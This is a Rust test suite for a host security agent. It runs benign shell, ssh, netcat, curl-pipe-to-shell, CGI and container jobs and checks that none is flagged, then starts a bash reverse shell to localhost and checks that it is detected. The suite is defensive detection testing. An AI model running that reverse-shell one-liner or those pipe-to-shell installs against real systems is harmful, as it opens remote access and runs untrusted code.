//! Honest work that looks like an attack to whoever looks at less than all of it: none is accused,
//! under its own names or under others. After each a reverse shell is, so that silence means
//! something.

mod desk;
mod served;

use desk::{Desk, LIMIT};
use served::{installers_in_jobs, ssh_that_forwards_both_ways, terminals_in_a_browser};
use std::{fs, os::unix::fs::PermissionsExt};
use vedette_tests::{
    agent::Agent,
    container::{Container, Spec},
    http::{HttpServer, free_port},
    listener::Wire,
    need::{self, Need},
    network::Network,
    process::wait_for,
    remote_shell::RemoteShell,
    require,
    sshd::Sshd,
    tools::{Names, Place, Tools},
    workspace,
};

/// Does the work under both sorts of names before an agent's eyes.
fn unaccused(tools: &[&'static str], work: fn(Names)) {
    for tool in tools {
        require!(Need::Tool(tool));
    }
    require!(Need::Root, Need::Tool("setsid"));
    let _alone = workspace::alone();
    if let Some(reason) = need::missing(&[Need::Agent, Need::Kernel]) {
        // Work that does not work proves nothing later.
        [Names::Own, Names::Others].into_iter().for_each(work);
        return need::skip(&reason);
    }
    let agent = Agent::observing();
    [Names::Own, Names::Others].into_iter().for_each(work);

    let shell = RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
        let bash = tools.get("bash");
        format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
    });
    let root = shell.root();
    agent.expect("the reverse shell after the work", |finding| {
        finding.ancestors().contains(&root)
    });
    drop(shell);
    let stopped = agent.stop();
    let (theirs, accused): (Vec<_>, Vec<_>) = stopped
        .findings
        .iter()
        .filter(|finding| !finding.is_health())
        .partition(|finding| finding.ancestors().contains(&root));
    let accused: Vec<_> = accused
        .into_iter()
        .map(vedette_tests::agent::summary)
        .collect();
    assert!(accused.is_empty(), "honest work is accused: {accused:#?}");
    assert_eq!(
        theirs.len(),
        1,
        "the reverse shell is found once: {:#?}",
        stopped.accusations()
    );
}

fn ssh_command(names: Names) {
    let desk = Desk::new(names);
    let sshd = Sshd::start(&desk.tools, &desk.mark);
    let (ssh, to, sh) = (desk.get("ssh"), sshd.client(), desk.get("sh"));
    let log = desk.done(&format!(
        "{ssh} {to} machine 'echo one; id -u'\n{ssh} {to} machine {sh} -c '\"echo two; ls /\"'\necho 'echo three' | {ssh} {to} machine {sh}"
    ));
    assert!(
        ["one", "two", "three"]
            .iter()
            .all(|word| log.contains(word)),
        "{log}"
    );
}

fn ssh_terminal(names: Names) {
    let desk = Desk::new(names);
    let sshd = Sshd::start(&desk.tools, &desk.mark);
    let (ssh, to, script, bash) = (
        desk.get("ssh"),
        sshd.client(),
        desk.get("script"),
        desk.get("bash"),
    );
    let log = desk.done(&format!(
        "printf 'echo answer $((6*7)); exit\\n' | {ssh} {to} -tt machine\n\
         export SHELL={bash}; {script} -qec \"{ssh} {to} -t machine '{bash} -ic \\\"tty; echo done\\\"'\" /dev/null"
    ));
    assert!(log.contains("answer 42") && log.contains("done"), "{log}");
}

fn ssh_through_proxies(names: Names) {
    let desk = Desk::new(names);
    let sshd = Sshd::start(&desk.tools, &desk.mark);
    let (ssh, to) = (desk.get("ssh"), sshd.client());
    let [nc, busybox, bash, cat] = ["nc", "busybox", "bash", "cat"].map(|name| desk.get(name));
    let log = desk.done(&format!(
        "{ssh} {to} -o ProxyCommand='{nc} %h %p' machine echo one\n\
         {ssh} {to} -o ProxyCommand='{busybox} nc %h %p' machine echo two\n\
         {ssh} {to} -o ProxyCommand=\"{bash} -c 'exec 3<>/dev/tcp/%h/%p; {cat} <&3 & {cat} >&3; kill \\$!'\" machine echo three\n\
         {ssh} {to} -o ProxyCommand='{ssh} {to} -W %h:%p machine' machine echo four"
    ));
    assert!(
        ["one", "two", "three", "four"]
            .iter()
            .all(|word| log.contains(word)),
        "{log}"
    );
}

fn copies_over_ssh(names: Names) {
    let desk = Desk::new(names);
    let sshd = Sshd::start(&desk.tools, &desk.mark);
    let (ssh, to) = (desk.get("ssh"), sshd.client());
    let [tar, cat, rsync, git] = ["tar", "cat", "rsync", "git"].map(|name| desk.get(name));
    desk.file("tree/a", "content");
    let there = desk.tools.scratch("there");
    desk.done(&format!(
        "mkdir {there}
{tar} cf - tree | {ssh} {to} machine '{cat} > {there}/tar'
{ssh} {to} machine '{cat} {there}/tar' | {tar} tf - | grep -q tree/a
{tar} cf - tree | {ssh} {to} machine 'cd {there} && {tar} xf -'
{rsync} -a -e '{ssh} {to}' --rsync-path={rsync} tree/ machine:{there}/rsync
test -e {there}/tree/a -a -e {there}/rsync/a
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_SYSTEM=/dev/null GIT_SSH_COMMAND='{ssh} {to}'
{git} init -q repository
cd repository
{git} -c user.name=a -c user.email=a@b commit -q --allow-empty -m first
{git} clone -q machine:$PWD {there}/clone
test -d {there}/clone/.git"
    ));
}

fn netcat_transfer(names: Names) {
    let desk = Desk::new(names);
    let [nc, busybox, tar, cat, sh] =
        ["nc", "busybox", "tar", "cat", "sh"].map(|name| desk.get(name));
    desk.file("sent", "over the wire");
    let ports = [free_port(), free_port()];
    // A sender is as often too early as not, and not every nc says so.
    desk.done(&format!(
        "{nc} -l 127.0.0.1 {0} > received &
until cmp -s sent received; do {nc} -N 127.0.0.1 {0} < sent || sleep 0.05; done
wait
{sh} -c '{nc} -l 127.0.0.1 {1} | {tar} xf - --to-stdout > received2' &
until cmp -s sent received2; do {tar} cf - sent | {cat} | {nc} -N 127.0.0.1 {1} || sleep 0.05; done
wait
{nc} -l 127.0.0.1 {0} > received3 &
until cmp -s sent received3; do {busybox} nc 127.0.0.1 {0} < sent || sleep 0.05; done
wait",
        ports[0], ports[1]
    ));
}

fn web_servers_with_cgi(names: Names) {
    let desk = Desk::new(names);
    let [python, busybox, sh, curl, head] =
        ["python3", "busybox", "sh", "curl", "head"].map(|name| desk.get(name));
    let cgi = format!(
        "#!{sh}\necho 'Content-Type: text/plain'\necho\necho \"hello from $$ $(id -u)\"\n\
         [ -z \"$CONTENT_LENGTH\" ] || {head} -c \"$CONTENT_LENGTH\"\n"
    );
    desk.executable("cgi-bin/hello", &cgi);
    let ports = [free_port(), free_port()];
    let log = desk.done(&format!(
        "{python} -m http.server --cgi --bind 127.0.0.1 {0} & one=$!
until {curl} -s http://127.0.0.1:{0}/cgi-bin/hello | grep '^hello'; do sleep 0.05; done
kill $one
{busybox} httpd -f -p 127.0.0.1:{1} -h . & two=$!
until {curl} -s http://127.0.0.1:{1}/cgi-bin/hello | grep '^hello'; do sleep 0.05; done
{curl} -s -d name=value http://127.0.0.1:{1}/cgi-bin/hello
kill $two",
        ports[0], ports[1]
    ));
    assert!(
        log.matches("hello from").count() >= 3 && log.contains("name=value"),
        "{log}"
    );
}

fn terminal_sessions(names: Names) {
    let desk = Desk::new(names);
    let [tmux, screen, script, bash, sh] =
        ["tmux", "screen", "script", "bash", "sh"].map(|name| desk.get(name));
    let directory = desk.tools.scratch("screens");
    desk.done(&format!(
        "export SHELL={bash} TERM=xterm
{tmux} -S $PWD/socket -f /dev/null new-session -d -s work {sh}
{tmux} -S $PWD/socket send-keys -t work 'echo $((6*7)) > from-tmux' Enter
until test -s from-tmux; do sleep 0.05; done
{tmux} -S $PWD/socket kill-server
mkdir -m 700 {directory}
export SCREENDIR={directory}
{screen} -dmS work {sh} -c 'tty > from-screen; sleep 0.3'
until test -s from-screen; do sleep 0.05; done
{script} -qec '{sh} -ic \"echo from script\"' typescript
grep -q 'from script' typescript"
    ));
}

fn health_checks(names: Names) {
    let desk = Desk::new(names);
    let server = HttpServer::start("healthy\n");
    let (bash, cat, port) = (desk.get("bash"), desk.get("cat"), server.port());
    let [head, timeout, nc] = ["head", "timeout", "nc"].map(|name| desk.get(name));
    desk.executable(
        "check",
        &format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port}
printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3
{head} -1 <&3 | grep -q 200
(echo > /dev/tcp/127.0.0.1/{port}) >/dev/null 2>&1
{timeout} 5 {bash} -c '{cat} < /dev/null > /dev/tcp/127.0.0.1/{port}'
exec 4<>/dev/tcp/127.0.0.1/{port}
echo -e 'GET / HTTP/1.0\\r\\n\\r\\n' >&4
while read -r line <&4; do echo \"$line\"; done
printf 'GET / HTTP/1.0\\r\\n\\r\\n' | {nc} 127.0.0.1 {port} | grep -q healthy
"
        ),
    );
    let log = desk.done(&format!("{bash} -e check"));
    assert!(log.contains("healthy"), "{log}");
}

fn installers_from_the_web(names: Names) {
    let desk = Desk::new(names);
    let server = HttpServer::start(
        "set -e\necho installing as $(id -u)\nls / > installed\ncat installed | wc -l\n",
    );
    let [curl, busybox, bash, sh] = ["curl", "busybox", "bash", "sh"].map(|name| desk.get(name));
    let url = format!("http://127.0.0.1:{}/install.sh", server.port());
    desk.executable("substituted", &format!("{bash} <({curl} -s {url})\n"));
    let log = desk.done(&format!(
        "{curl} -s {url} | {sh}\n{busybox} wget -qO- {url} | {bash}\n{sh} -c \"$({curl} -s {url})\"\n{bash} substituted"
    ));
    assert_eq!(log.matches("installing as 0").count(), 4, "{log}");
}

/// Runners that fetch a job and then feed it to a shell, or talk to one.
fn jobs_fetched_and_fed_to_a_shell(names: Names) {
    let desk = Desk::new(names);
    let server = HttpServer::start("echo a job as $(id -u)\n");
    let [python, bash, sh] = ["python3", "bash", "sh"].map(|name| desk.get(name));
    let runner = desk.file(
        "runner",
        &format!(
            "import os, subprocess, urllib.request
fetch = lambda: urllib.request.urlopen('http://127.0.0.1:{}/job').read()
for shell in '{bash}', '{sh}':
    job = fetch()
    done = subprocess.run([shell], input=job, stdout=subprocess.PIPE, check=True)
    print(done.stdout.decode(), flush=True)
# One that is talked to, after all that.
shell = subprocess.Popen(['{bash}', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
os.write(shell.stdin.fileno(), b'echo ready\\n'); shell.stdout.readline()
shell.stdin.close(); shell.wait()
",
            server.port()
        ),
    );
    let log = desk.done(&format!("{python} {runner}"));
    assert_eq!(log.matches("a job as 0").count(), 2, "{log}");
}

fn compilers(names: Names) {
    let desk = Desk::new(names);
    let make = desk.get("make");
    desk.file(
        "main.c",
        "#include <stdio.h>\nint main(void) { puts(\"compiled\"); }\n",
    );
    desk.file(
        "Makefile",
        "all: main\n\t./main\nmain: main.c\n\tcc -O2 -o $@ $<\n",
    );
    desk.file(
        "crate/Cargo.toml",
        "[package]\nname = \"small\"\nversion = \"0.1.0\"\nedition = \"2024\"\n[workspace]\n",
    );
    desk.file(
        "crate/src/main.rs",
        "fn main() { println!(\"built by {}\", env!(\"BUILDER\")); }\n",
    );
    desk.file(
        "crate/build.rs",
        "fn main() { let out = std::process::Command::new(\"sh\").args([\"-c\", \"echo cargo\"]).output().unwrap();
        println!(\"cargo::rustc-env=BUILDER={}\", String::from_utf8(out.stdout).unwrap().trim()); }\n",
    );
    let log = desk.done(&format!(
        "{make}\ncd crate\nunset CARGO_TARGET_DIR\ncargo run --quiet --offline"
    ));
    assert!(
        log.contains("compiled") && log.contains("built by cargo"),
        "{log}"
    );
}

fn package_installation(names: Names) {
    let desk = Desk::new(names);
    let apt = desk.get("apt-get");
    desk.done(&format!(
        "DEBIAN_FRONTEND=noninteractive {apt} install --reinstall --yes --quiet hostname"
    ));
}

fn entrypoints(names: Names) {
    let tools = Tools::new(Place::Container, names);
    let [busybox, sh, setpriv, bash] =
        ["busybox", "sh", "setpriv", "bash"].map(|name| tools.get(name));
    let opt = tools.layer().join("opt");
    let executable = |name: &str, content: String| {
        fs::write(opt.join(name), content).expect("an own directory");
        fs::set_permissions(opt.join(name), fs::Permissions::from_mode(0o755))
            .expect("an own file");
    };
    executable(
        "docker-entrypoint.sh",
        format!(
            "#!{bash}
set -e
if [ \"$(id -u)\" = 0 ]; then
  mkdir -p /srv/cgi-bin && cp /opt/cgi /srv/cgi-bin/cgi
  exec {setpriv} --reuid=65534 --regid=65534 --clear-groups \"$0\" \"$@\"
fi
for name in ${{!SERVICE_@}}; do {sh} -c 'echo configured'; done
exec \"$@\"
"
        ),
    );
    executable(
        "cgi",
        format!("#!{sh}\necho 'Content-Type: text/plain'\necho\necho from the container\n"),
    );
    let spec = Spec {
        script: format!(
            "exec /opt/docker-entrypoint.sh {busybox} httpd -f -v -p 127.0.0.1:8080 -h /srv\n"
        ),
        layer: Some(tools.layer().to_owned()),
        environment: vec!["SERVICE_A=1".into()],
        ..Spec::default()
    };
    let container = Container::start(spec, Network::private());
    let answer = wait_for(LIMIT, || {
        let check = format!("{busybox} wget -qO- http://127.0.0.1:8080/cgi-bin/cgi");
        let output = container
            .exec(&[&sh, "-c", &check])
            .output()
            .expect("runc is installed");
        output
            .status
            .success()
            .then(|| String::from_utf8_lossy(&output.stdout).into_owned())
    });
    assert!(
        answer.is_some_and(|answer| answer.contains("from the container")),
        "{}",
        container.log()
    );
    // An operator looks into the container, with a terminal and without one.
    let desk = Desk::new(Names::Own);
    let (script, id) = (desk.get("script"), container.id());
    let log = desk.done(&format!(
        "runc exec {id} {sh} -c 'ls /; id'\n{script} -qec \"runc exec -t {id} {sh} -c 'tty; echo looked'\" /dev/null"
    ));
    assert!(log.contains("looked"), "{log}");
}

fn privileged_container(names: Names) {
    let tools = Tools::new(Place::Container, names);
    let [mount, umount, cat, unshare, ls] =
        ["mount", "umount", "cat", "unshare", "ls"].map(|name| tools.get(name));
    let shared = tempfile::TempDir::with_prefix("vedette-data-").expect("a temporary directory");
    let script = format!(
        "set -e
{mount} -t tmpfs scratch /tmp && echo data > /tmp/file && {mount} --bind /tmp /mnt/data/inner && {umount} /mnt/data/inner
{cat} /proc/sys/kernel/core_pattern /proc/self/status > /mnt/data/copied
{ls} /sys/fs/cgroup /proc/self/fd /dev
{unshare} --mount --uts {cat} /etc/hosts
echo it is done
"
    );
    fs::create_dir(shared.path().join("inner")).expect("an own directory");
    let spec = Spec {
        script,
        layer: Some(tools.layer().to_owned()),
        privileged: true,
        binds: vec![(shared.path().to_owned(), "/mnt/data".into())],
        ..Spec::default()
    };
    let container = Container::start(spec, Network::private());
    let done = wait_for(LIMIT, || {
        container.log().contains("it is done").then_some(())
    });
    assert!(done.is_some(), "the work fails: {}", container.log());
}

macro_rules! honest {
    ($($name:ident needs $tools:expr),+ $(,)?) => {
        $(mod $name {
            #[test]
            fn is_not_accused() { super::unaccused(&$tools, super::$name); }
        })+
    };
}

honest! {
    ssh_command needs ["ssh", "sshd"],
    ssh_terminal needs ["ssh", "sshd", "script"],
    ssh_through_proxies needs ["ssh", "sshd", "nc", "busybox"],
    copies_over_ssh needs ["ssh", "sshd", "tar", "rsync", "git"],
    netcat_transfer needs ["nc", "busybox"],
    web_servers_with_cgi needs ["python3", "busybox", "curl"],
    terminal_sessions needs ["tmux", "screen", "script"],
    health_checks needs ["nc"],
    installers_from_the_web needs ["curl", "busybox"],
    jobs_fetched_and_fed_to_a_shell needs ["python3"],
    installers_in_jobs needs ["python3", "curl"],
    ssh_that_forwards_both_ways needs ["ssh", "sshd", "curl"],
    terminals_in_a_browser needs ["python3"],
    compilers needs ["make", "cc"],
    entrypoints needs ["runc", "busybox", "setpriv", "script"],
    privileged_container needs ["runc", "busybox", "unshare"],
}

mod package_installation {
    use super::*;

    #[test]
    fn is_not_accused() {
        require!(Need::Root, Need::Tool("apt-get"), Need::Registry);
        {
            let _alone = workspace::alone();
            let desk = Desk::new(Names::Own);
            let apt = desk.get("apt-get");
            // Where the registry cannot be reached there is nothing to see.
            let fetched = desk.work(&format!(
                "{apt} install --reinstall --yes --quiet --download-only hostname"
            ));
            if let Err(error) = fetched {
                return need::skip(&format!("apt-get does not reach its registry: {error}"));
            }
        }
        unaccused(&[], super::package_installation);
    }
}
